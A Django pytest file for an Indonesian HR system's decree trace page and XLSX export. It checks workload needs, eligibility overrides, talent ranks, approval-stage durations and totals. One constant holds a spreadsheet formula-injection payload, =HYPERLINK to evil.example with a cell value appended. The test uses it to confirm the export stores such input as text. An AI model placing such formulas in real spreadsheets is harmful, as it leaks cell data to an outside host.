"""The decree trace of the merit evidence (issue 20 point 8): every transfer a decree (SK) of the period put
into effect, one row each on the page and in the XLSX, traced to its basis: the need (ABK) at the
destination in the workload run in force at the decision, the eligibility result and any override with
its reason and who, the talent box and rank for a key post, each approval stage with who, when and how
long; totals that equal the database's own counts; a fixed number of queries."""

from __future__ import annotations

import datetime as dt
import io
import itertools
import re
from collections import Counter
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.db import connection
from django.db.models import Count, Q
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from core.models import User
from instansi.models import Region
from mutasi import eligibility
from mutasi.exports import DECREE_HEADERS, STAGE_HEADERS
from mutasi.models import ApprovalStep, Consultation, Decree, TransferRequest
from mutasi.selectors.merit import DecreeTotals
from talenta.models import KeyPost, SuccessionPlan
from talenta.services.grid import talent_grid_compute, talent_grid_start
from talenta.services.succession import succession_plan_compute
from tests.factories import PositionFactory, UserFactory
from tests.talenta.conftest import AS_OF
from workload.models import WorkloadResult, WorkloadRun

WIB = ZoneInfo("Asia/Jakarta")
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
COL = {h: i for i, h in enumerate(DECREE_HEADERS)}
STAGE_COL = {h: i for i, h in enumerate(STAGE_HEADERS)}
_seq = itertools.count(1)


def at(day: int, hour: int = 8, minute: int = 0, month: int = 3) -> dt.datetime:
    return dt.datetime(2026, month, day, hour, minute, tzinfo=WIB)


def _decree(world, signer, date: dt.date) -> Decree:
    seq = next(_seq)
    return Decree.objects.create(
        region=world.region,
        number=f"800/{seq:03d}/BKPSDM/2026",
        year=date.year,
        seq=seq,
        date=date,
        tmt=date,
        signer=signer,
        signer_name=signer.full_name,
        signer_title="Walikota",
        issued_by=world.hr,
    )


def _decreed(world, employee, position, decree, *, stages, failed=(), reason="", snapshot=None):
    """A decreed transfer with its stored checklist and its stages (stage, started, decided, actor)."""
    checklist = snapshot or {"answer": "not_met" if failed else "met", "passed": not failed, "items": []}
    request = TransferRequest.objects.create(
        number=f"MUT-2026-{TransferRequest.objects.count() + 1:06d}",
        employee=employee,
        kind="rotation" if position.agency_id == employee.position.agency_id else "between_agencies",
        origin_position=employee.position,
        origin_agency=employee.position.agency,
        destination_position=position,
        destination_agency=position.agency,
        reason="Penataan pegawai.",
        status="decreed",
        round=1,
        submitted_at=stages[0][1],
        decided_at=stages[-1][2],
        decree=decree,
        override_reason=reason if failed else "",
        overridden_by=world.hr if failed else None,
        eligibility_snapshot={**checklist, "overridden": list(failed)},
    )
    for order, (stage, start, end, actor) in enumerate(stages, 1):
        ApprovalStep.objects.create(
            request=request,
            round=1,
            order=order,
            stage=stage,
            approver_title=f"Pemutus {stage}",
            activated_at=start,
            decided_at=end,
            decision="approved",
            actor=actor,
        )
    return request


def _run(world, finished: dt.datetime, figures: dict) -> WorkloadRun:
    """A finished workload run with position rows {position: (required, holders)}."""
    run = WorkloadRun.objects.create(region=world.region, status="finished", finished_at=finished)
    for position, (required, holders) in figures.items():
        WorkloadResult.objects.create(
            run=run,
            level="position",
            agency=position.agency,
            position=position,
            required=required,
            current=holders,
            gap=holders - required,
        )
    return run


@pytest.fixture
def trace(world):
    """Three decrees in March 2026: a move into the key post (with its plan, box and rank), a move with an
    override into a post whose need was known from the run before the decision, and one decided before
    any workload run. A run finished after the decisions must not be read."""
    best = world.person("sangat_baik", "sangat_baik", (92, 88, 90), golongan="III/d")
    mover = world.person("baik", "baik", (70, 70, 70), golongan="III/c")
    early = world.person("baik", "baik", (70, 70, 70), golongan="III/c")
    signer = world.person(scores=None, golongan="IV/e")
    head_user = UserFactory(username="kadinsos", first_name="Kepala Dinas Sosial")
    grid = talent_grid_compute(grid_id=talent_grid_start(actor=world.hr, region=world.region, as_of=AS_OF).pk)
    plan = succession_plan_compute(
        actor=world.hr, key_post=KeyPost.objects.create(position=world.key_position), grid=grid
    )
    SuccessionPlan.objects.filter(pk=plan.pk).update(created_at=at(5, month=1))
    staff_post = PositionFactory(agency=world.other_agency, title="Analis Rehabilitasi Sosial", grade=8)
    _run(world, at(1, month=2), {staff_post: (5, 3), world.key_position: (1, 0)})
    _run(world, at(1, month=11), {staff_post: (5, 9)})  # after every decision: never the one in force
    sk1 = _decree(world, signer, dt.date(2026, 3, 20))
    key_move = _decreed(
        world,
        best,
        world.key_position,
        sk1,
        stages=[
            ("origin_head", at(2), at(4, 11), head_user),
            ("hr_verification", at(4, 11), at(4, 16, 10), world.hr),
        ],
        snapshot=eligibility.check(employee=best, destination=world.key_position).snapshot(),
    )
    override = _decreed(
        world,
        mover,
        staff_post,
        sk1,
        stages=[
            ("destination_head", at(6), at(8, 9, 30), head_user),
            (
                "hr_verification",
                at(8, 9, 30),
                at(
                    8,
                    9,
                    30,
                ),
                world.hr,
            ),
        ],
        failed=("min_years_in_post",),
        reason="Pelayanan darurat; " + INJECTION,
    )
    sk2 = _decree(world, signer, dt.date(2026, 1, 30))
    before_run = _decreed(
        world,
        early,
        staff_post,
        sk2,
        stages=[("destination_head", at(10, month=1), at(12, month=1), head_user)],
    )
    return {
        "best": best,
        "key_move": key_move,
        "override": override,
        "before_run": before_run,
        "staff_post": staff_post,
        "decrees": (sk1, sk2),
        "head_user": head_user,
    }


def _rows(response, sheet: str, start: int) -> list[tuple]:
    book = load_workbook(io.BytesIO(response.content))
    return [r for r in book[sheet].iter_rows(min_row=start, values_only=True) if any(r)]


def test_each_decree_is_traced_to_the_need_the_eligibility_the_talent_and_the_stages(client, world, trace):
    client.force_login(world.auditor)
    text = client.get("/mutasi/bukti-merit/?tahun=2026").content.decode()
    trace_html = text[text.index('id="decree-trace"') :]
    for key in ("key_move", "override", "before_run"):
        assert trace_html.count(f'data-request="{trace[key].pk}"') == 1
    row = trace_html[trace_html.index(f'data-request="{trace["override"].pk}"') :]
    row = row[: row.index("</tr>")]
    # The need as it was at the decision (the February run: 3 of 5), in the approver card's words.
    assert "kurang 2 → kurang 1" in row and "kebutuhan 5, terisi 3" in row
    assert "Analisis beban kerja #" in row and "1 Februari 2026" in row
    # The override: the rule by name, the reason, who.
    assert "Masa kerja minimal di jabatan" in row and "Pelayanan darurat;" in row
    assert world.hr.username in row
    # Stages: who, when, how long (2 days 1 hour 30 minutes -> "2 hari 1 jam"; the same minute -> under one).
    assert "Kepala Dinas Sosial" in row and "8 Maret 2026 09.30 WIB" in row
    assert "lama 2 hari 1 jam" in row and "lama kurang dari 1 menit" in row
    before = trace_html[trace_html.index(f'data-request="{trace["before_run"].pk}"') :]
    assert "tidak ada hasil ABK" in before[: before.index("</tr>")]
    key = trace_html[trace_html.index(f'data-request="{trace["key_move"].pk}"') :]
    key = key[: key.index("</tr>")]
    assert "Peringkat 1 dari" in key and "Kotak 9" in key
    assert "lama 2 hari 3 jam" in key and "lama 5 jam 10 menit" in key


def test_the_xlsx_traces_the_same_rows_with_stage_durations_and_typed_text_as_text(client, world, trace):
    client.force_login(world.hr)
    response = client.get("/mutasi/bukti-merit/xlsx/?tahun=2026")
    assert response.status_code == 200
    rows = _rows(response, "Jejak SK", 3)
    by_number = {r[COL["Nomor usulan"]]: r for r in rows}
    assert len(rows) == len(by_number) == 3
    override = by_number[trace["override"].number]
    assert override[COL["Kebutuhan: sebelum → sesudah mutasi"]] == "kurang 2 → kurang 1"
    assert (override[COL["Kebutuhan pegawai (ABK)"]], override[COL["Pegawai saat itu"]]) == (5, 3)
    assert override[COL["Aturan yang dikecualikan"]] == "Masa kerja minimal di jabatan"
    assert override[COL["Alasan pengecualian"]] == "Pelayanan darurat; " + INJECTION
    assert override[COL["Hasil cek kelayakan"]].startswith("Ada syarat yang tidak terpenuhi; dikecualikan:")
    assert override[COL["Lama proses"]] == "2 hari 1 jam" and override[COL["Lama proses (jam)"]] == 49.5
    assert override[COL["Perangkat daerah/instansi tujuan"]] == "Dinas Sosial"
    assert (
        by_number[trace["before_run"].number][COL["Kebutuhan: sebelum → sesudah mutasi"]]
        == "tidak ada hasil ABK"
    )
    key = by_number[trace["key_move"].number]
    assert key[COL["Jabatan kunci"]] == "ya" and key[COL["Kotak talenta"]] == 9
    assert key[COL["Peringkat suksesi"]] == 1
    assert key[COL["Nomor SK"]] == trace["decrees"][0].number and key[COL["Tanggal SK"]] == "20 Maret 2026"
    assert key[COL["Diputuskan"]] == dt.datetime(2026, 3, 4, 16, 10)  # local time, not UTC
    stages = _rows(response, "Tahapan persetujuan", 2)
    mine = [s for s in stages if s[STAGE_COL["Nomor usulan"]] == trace["key_move"].number]
    assert [(s[STAGE_COL["Lama"]], s[STAGE_COL["Lama (jam)"]]) for s in mine] == [
        ("2 hari 3 jam", 51.0),
        ("5 jam 10 menit", 5.2),
    ]
    assert mine[0][STAGE_COL["Diputuskan oleh"]] == "Kepala Dinas Sosial"
    book = load_workbook(io.BytesIO(response.content))
    cells = [
        c
        for row in book["Jejak SK"].iter_rows(min_row=3)
        for c in row
        if c.value and INJECTION in str(c.value)
    ]
    assert cells and all(c.data_type == "s" for c in cells)


def test_going_ahead_against_the_employee_and_a_cancelled_decree_show_their_reasons_not_the_private_ones(
    client, world, trace
):
    employee = world.person("baik", "baik", (70, 70, 70), golongan="III/c")
    decree = _decree(world, trace["decrees"][0].signer, dt.date(2026, 6, 1))
    request = _decreed(
        world,
        employee,
        trace["staff_post"],
        decree,
        stages=[
            ("employee", at(1, month=5), at(3, month=5), None),
            ("origin_head", at(3, month=5), at(4, month=5), trace["head_user"]),
        ],
    )
    employee_step, head_step = request.steps.order_by("order")
    employee_step.decision, employee_step.actor = "approved", None
    employee_step.save()
    Consultation.objects.create(
        step=employee_step,
        request=request,
        answer="object",
        category="education",
        reasons="Kuliah malam rahasia pribadi.",
        protecting=True,
        override_reason="Formasi tidak dapat ditunda.",
        overridden_by=world.hr,
        overridden_at=at(3, month=5),
    )
    head_step.against_objection_reason = "Pelayanan tetap berjalan di tempat baru."
    head_step.save()
    TransferRequest.objects.filter(pk=request.pk).update(status="cancelled")
    Decree.objects.filter(pk=decree.pk).update(status="cancelled", cancel_reason="Salah ketik TMT.")
    client.force_login(world.auditor)
    text = client.get("/mutasi/bukti-merit/?tahun=2026").content.decode()
    row = text[text.index(f'data-request="{request.pk}"') :]
    row = row[: row.index("</tr>")]
    assert "tanggapan pegawai: Keberatan" in row
    assert "dilanjutkan BKPSDM meski keberatan melindungi: Formasi tidak dapat ditunda. (bkpsdm)" in row
    assert "disetujui meski pegawai keberatan: Pelayanan tetap berjalan di tempat baru." in row
    assert "Alasan pembatalan: Salah ketik TMT." in row and "Dibatalkan" in row
    assert "<dt>Dilanjutkan meski pegawai keberatan</dt><dd>1</dd>" in text
    assert "<dt>Dibatalkan bersama SK-nya</dt><dd>1</dd>" in text
    assert "rahasia pribadi" not in text  # the objection's own reasons stay private
    response = client.get("/mutasi/bukti-merit/xlsx/?tahun=2026")
    rows = {r[COL["Nomor usulan"]]: r for r in _rows(response, "Jejak SK", 3)}
    mine = rows[request.number]
    assert mine[COL["Alasan pembatalan SK"]] == "Salah ketik TMT." and mine[COL["Status SK"]] == "Dibatalkan"
    assert "Formasi tidak dapat ditunda." in mine[COL["Tahapan persetujuan"]]
    assert "Pelayanan tetap berjalan di tempat baru." in mine[COL["Tahapan persetujuan"]]
    assert not any("rahasia pribadi" in str(v) for r in rows.values() for v in r)


def test_the_trace_narrows_to_one_decree_number_and_a_year(client, world, trace):
    client.force_login(world.hr)
    sk1, sk2 = trace["decrees"]
    rows = _rows(client.get(f"/mutasi/bukti-merit/xlsx/?sk={sk2.number}"), "Jejak SK", 3)
    assert [r[COL["Nomor usulan"]] for r in rows] == [trace["before_run"].number]
    assert _rows(client.get("/mutasi/bukti-merit/xlsx/?tahun=2025"), "Jejak SK", 3) == []
    assert client.get("/mutasi/bukti-merit/?sk=" + "9" * 101).status_code == 400
    assert client.get("/mutasi/bukti-merit/?sk=%00").status_code == 400
    assert client.get("/mutasi/bukti-merit/?sk=tidak-ada").content.decode().count("data-request=") == 0


def test_past_the_limit_the_rows_stop_and_say_so_while_the_totals_count_every_decree(
    client, world, trace, monkeypatch
):
    from mutasi.selectors import merit

    monkeypatch.setattr(merit, "LIMIT", 2)
    client.force_login(world.hr)
    text = client.get("/mutasi/bukti-merit/").content.decode()
    assert text.count("data-request=") == 2
    assert "Hanya 2 baris pertama dari 3 yang ditampilkan" in text
    assert "<dt>Mutasi ber-SK</dt><dd>3</dd>" in text and "<dt>Nomor SK</dt><dd>2</dd>" in text
    response = client.get("/mutasi/bukti-merit/xlsx/")
    book = load_workbook(io.BytesIO(response.content))
    assert "hanya 2 baris pertama dari 3" in book["Jejak SK"]["A1"].value
    assert len(_rows(response, "Jejak SK", 3)) == 2
    totals = dict(r[:2] for r in _rows(response, "Rekapitulasi SK", 3)[:5])
    assert (
        totals["Mutasi ber-SK"] == 3 and totals["Nomor SK"] == 2 and totals["Dengan pengecualian syarat"] == 1
    )


def _page_and_export(client):
    page = client.get("/mutasi/bukti-merit/")
    export = client.get("/mutasi/bukti-merit/xlsx/")
    assert page.status_code == export.status_code == 200
    return page, export


def test_the_trace_runs_a_fixed_number_of_queries_whatever_the_number_of_decrees(client, world, trace):
    client.force_login(world.auditor)
    _page_and_export(client)
    with CaptureQueriesContext(connection) as small_page:
        client.get("/mutasi/bukti-merit/")
    with CaptureQueriesContext(connection) as small_export:
        client.get("/mutasi/bukti-merit/xlsx/")
    signer = trace["decrees"][0].signer
    for i in range(4):
        post = PositionFactory(agency=world.agency, title=f"Pranata Komputer {i}", grade=8)
        _run(world, at(1, month=1), {post: (4, i)})
        employee = world.person("baik", "baik", (70, 70, 70), golongan="III/b")
        _decreed(
            world,
            employee,
            post,
            _decree(world, signer, dt.date(2026, 4, 1 + i)),
            stages=[
                ("origin_head", at(1 + i, month=3), at(2 + i, month=3), trace["head_user"]),
                ("destination_head", at(2 + i, month=3), at(3 + i, month=3), trace["head_user"]),
                ("hr_verification", at(3 + i, month=3), at(4 + i, month=3), world.hr),
            ],
            failed=("performance",) if i % 2 else (),
            reason="Uji.",
        )
    _decreed(
        world,
        world.person("baik", "baik", (60, 60, 60), golongan="III/d"),
        world.key_position,
        _decree(world, signer, dt.date(2026, 5, 1)),
        stages=[("hr_verification", at(1, month=4), at(2, month=4), world.hr)],
    )
    with CaptureQueriesContext(connection) as large_page:
        text = client.get("/mutasi/bukti-merit/").content.decode()
    assert "Pranata Komputer 3" in text
    with CaptureQueriesContext(connection) as large_export:
        client.get("/mutasi/bukti-merit/xlsx/")
    assert len(large_page.captured_queries) == len(small_page.captured_queries)
    assert len(large_export.captured_queries) == len(small_export.captured_queries)


# --- the demo region -------------------------------------------------------------------------------


@pytest.fixture
def demo_region(db):
    # 1,000 employees: the smallest demo whose Dinas Perhubungan has enough eligible staff for the mutasi
    # seed to reach its approved, decreed and executed requests (at 200 or 300 the pool runs out first;
    # `make run` seeds 2,000).
    call_command("seed_demo", employees=1000, stdout=io.StringIO())
    return Region.objects.get(agency__code="DINKES")


@pytest.mark.consultation  # the demo answers its consultations itself (tests/conftest.py)
def test_every_decree_of_the_demo_region_appears_once_with_totals_equal_to_the_database(client, demo_region):
    decreed = TransferRequest.objects.filter(decree__region=demo_region, decree__isnull=False)
    assert decreed.count() >= 2  # the demo seed decrees and executes transfers
    client.force_login(User.objects.get(username="bkpsdm"))
    text = client.get("/mutasi/bukti-merit/").content.decode()
    trace_html = text[text.index('id="decree-trace"') :]
    on_page = Counter(int(pk) for pk in re.findall(r'data-request="(\d+)"', trace_html))
    assert on_page == Counter(decreed.values_list("pk", flat=True))  # each exactly once
    for r in decreed.select_related("decree"):
        assert r.decree.number in trace_html
    response = client.get("/mutasi/bukti-merit/xlsx/")
    rows = _rows(response, "Jejak SK", 3)
    in_xlsx = Counter(r[COL["Nomor usulan"]] for r in rows)
    assert in_xlsx == Counter(decreed.values_list("number", flat=True))
    assert {r[COL["Nomor SK"]] for r in rows} == set(decreed.values_list("decree__number", flat=True))
    # Every row is traced: the ABK words, an eligibility result, at least one decided stage.
    assert all(r[COL["Kebutuhan: sebelum → sesudah mutasi"]] for r in rows)
    assert all(r[COL["Hasil cek kelayakan"]] for r in rows)
    assert all(r[COL["Tahapan persetujuan"]] for r in rows)
    # Totals: the sheet against the database's own counts.
    book = load_workbook(io.BytesIO(response.content))
    sheet = [r for r in book["Rekapitulasi SK"].iter_rows(values_only=True) if any(r)]
    figures = dict(r[:2] for r in sheet[2 : 2 + len(DecreeTotals().headline)])
    key_posts = KeyPost.objects.filter(is_active=True).values("position_id")
    assert figures == {
        "Mutasi ber-SK": decreed.count(),
        "Nomor SK": decreed.values("decree_id").distinct().count(),
        "Dengan pengecualian syarat": decreed.filter(overridden_by__isnull=False).count(),
        "Dilanjutkan meski pegawai keberatan": decreed.filter(
            Q(steps__against_objection_reason__gt="") | Q(consultations__override_reason__gt="")
        )
        .distinct()
        .count(),
        "Ke jabatan kunci": decreed.filter(destination_position_id__in=key_posts).count(),
        "Dibatalkan bersama SK-nya": decreed.filter(status="cancelled").count(),
    }
    by_agency = dict(decreed.values_list("destination_agency__name").annotate(n=Count("pk")))
    agency_rows = sheet[sheet.index(("Perangkat daerah/instansi tujuan", "Mutasi ber-SK")) + 1 :]
    agency_rows = agency_rows[: agency_rows.index(("Jenis mutasi", "Mutasi ber-SK"))]
    assert dict(agency_rows) == by_agency
    assert sum(n for _name, n in agency_rows) == decreed.count()
    kinds = sheet[sheet.index(("Jenis mutasi", "Mutasi ber-SK")) + 1 :]
    assert sum(n for _kind, n in kinds) == decreed.count()
    assert len(kinds) == decreed.values("kind").distinct().count()
    # The page shows the same totals.
    assert f"<dt>Mutasi ber-SK</dt><dd>{decreed.count()}</dd>" in text
